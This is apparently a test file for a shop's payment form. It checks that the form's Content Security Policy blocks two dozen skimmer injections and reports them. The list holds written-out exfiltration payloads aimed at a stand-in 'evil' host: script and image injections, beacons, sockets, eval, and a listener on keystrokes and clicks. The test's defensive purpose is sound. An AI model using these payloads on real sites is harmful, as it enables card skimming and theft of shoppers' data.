import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, it } from 'node:test';
import type { Browser } from 'playwright-core';
import { contentSecurityPolicy, permissionsPolicy, type Provider } from '../../src/entries/server.ts';
import { startHost, type Host } from '../../src/simulator/host.ts';
import { launchBrowser } from '../support/browser.ts';
import { selfSigned } from '../support/certificate.ts';
import { startShop, type ShopPage } from './shop.ts';

/** Somebody has put something into the shop's page; `evil` is where it wants to send what it finds. */
interface Skimmer {
  readonly name: string;
  /** Markup in the page, by a hole in a template or in what a shopper may write. */
  readonly markup?: (evil: string) => string;
  /** Code in a script of the shop's own, by a package that was taken over: it has the nonce. */
  readonly code?: (evil: string) => string;
  /** A browser stops it without a report: it sends none for a document that has no address. */
  readonly isSilent?: true;
}

const SKIMMERS: readonly Skimmer[] = [
  { name: 'an inline script', markup: (evil) => `<script>fetch('${evil}/a')</script>` },
  { name: 'an added script', markup: (evil) => `<script src="${evil}/a.js"></script>` },
  { name: 'a module', markup: (evil) => `<script type="module">import '${evil}/a.js'</script>` },
  { name: 'a handler in markup', markup: (evil) => `<img src="/none" onerror="fetch('${evil}/a')">` },
  { name: 'a script in a drawing', markup: (evil) => `<svg><script href="${evil}/a.js"></script></svg>` },
  {
    name: 'a script in a frame of its own',
    isSilent: true,
    markup: (evil) => `<iframe srcdoc="<script>fetch('${evil}/a')</script>"></iframe>`,
  },
  { name: 'another base for addresses', markup: (evil) => `<base href="${evil}/">` },
  { name: 'a plug-in', markup: (evil) => `<object data="${evil}/a.swf"></object>` },
  { name: 'a style sheet that asks', markup: (evil) => `<link rel="stylesheet" href="${evil}/a.css">` },
  {
    name: 'a style that fetches',
    markup: (evil) => `<style>body { background: url(${evil}/a) }</style>`,
  },
  { name: 'an exfiltrating image', markup: (evil) => `<img src="${evil}/a?card=4111">` },
  { name: 'a sound that asks', markup: (evil) => `<audio autoplay src="${evil}/a.mp3"></audio>` },
  {
    name: 'a font that asks',
    markup: (evil) =>
      `<style>@font-face { font-family: x; src: url(${evil}/a) } p { font-family: x }</style><p>a`,
  },
  {
    name: 'a listener that sends',
    code: (evil) =>
      `for (const type of ['keydown', 'input', 'click']) addEventListener(type, () => fetch('${evil}/a'), true); document.body.click();`,
  },
  { name: 'a beacon', code: (evil) => `navigator.sendBeacon('${evil}/a', 'x')` },
  { name: 'a socket', code: (evil) => `new WebSocket('${evil.replace('https', 'wss')}/a')` },
  { name: 'a stream', code: (evil) => `new EventSource('${evil}/a')` },
  { name: 'an image by script', code: (evil) => `new Image().src = '${evil}/a?card=4111'` },
  {
    name: 'a script by script',
    code: (evil) =>
      `document.body.append(Object.assign(document.createElement('script'), { src: '${evil}/a.js' }))`,
  },
  { name: 'code from a text', code: (evil) => `eval("fetch('${evil}/a')")` },
  { name: 'code from a timer', code: (evil) => `setTimeout("fetch('${evil}/a')")` },
  { name: 'markup by script', code: (evil) => `document.body.innerHTML += '<img src="${evil}/a">'` },
  { name: 'a document written over', code: (evil) => `document.write('<img src="${evil}/a">')` },
  { name: 'a worker', code: (evil) => `new Worker('${evil}/a.js')` },
];

function page(providers: readonly Provider[], { markup, code }: Skimmer, evil: string): ShopPage {
  const nonce = randomBytes(16).toString('base64');
  const policy = { providers, nonce, trustedTypes: true, reportUri: '/pay/csp-report' };
  return {
    headers: {
      'content-security-policy': contentSecurityPolicy(policy),
      'permissions-policy': permissionsPolicy(),
    },
    html: `<!doctype html><html lang="en-GB"><title>Shop</title>
<script type="module" nonce="${nonce}" src="/page.js"></script>
<body><pay-form session-url="/pay/session" confirm-url="/pay/confirm" order="stay-4" csp-nonce="${nonce}"></pay-form>
${markup?.(evil) ?? ''}
${code ? `<script nonce="${nonce}">${code(evil)}</script>` : ''}</html>`,
  };
}

describe('a skimmer in the page', { timeout: 180_000 }, () => {
  let browser: Browser;
  let evil: Host;
  const reached: string[] = [];
  before(async () => {
    browser = await launchBrowser();
    const certificate = await selfSigned('localhost');
    const answer = ({ url }: Request) => {
      reached.push(url);
      return Promise.resolve(new Response('', { headers: { 'access-control-allow-origin': '*' } }));
    };
    evil = await startHost(answer, { certificate });
  });
  after(() => Promise.all([browser.close(), evil.close()]));

  for (const skimmer of SKIMMERS) {
    it(`that is ${skimmer.name} gets nothing out${skimmer.isSilent ? '' : ', and the shop is told'}`, async () => {
      const shop = await startShop(
        (providers) => page(providers, skimmer, evil.origin),
        'dist/pay-form.browser.js',
      );
      const context = await browser.newContext({ ignoreHTTPSErrors: true });
      const view = await context.newPage();
      await view.goto(shop.url);
      await view.locator('pay-form').waitFor();
      const limit = performance.now() + 10_000;
      if (skimmer.isSilent) {
        await view.frameLocator('iframe[srcdoc]').locator('script').waitFor({ state: 'attached' });
        await sleep(500);
      }
      while (!skimmer.isSilent && shop.alarms.length === 0 && performance.now() < limit) await sleep(50);
      assert.deepEqual(
        [...new Set(shop.alarms.map(({ kind }) => kind))],
        skimmer.isSilent ? [] : ['policy-violation'],
      );
      assert.deepEqual(reached, []);
      await context.close();
      await shop.close();
    });
  }

  it('would be reached without the policy', async () => {
    const context = await browser.newContext({ ignoreHTTPSErrors: true });
    const view = await context.newPage();
    await view.setContent(`<img src="${evil.origin}/a">`);
    await view.waitForFunction(() => document.images[0]?.complete);
    assert.equal(reached.length, 1);
    await context.close();
  });
});
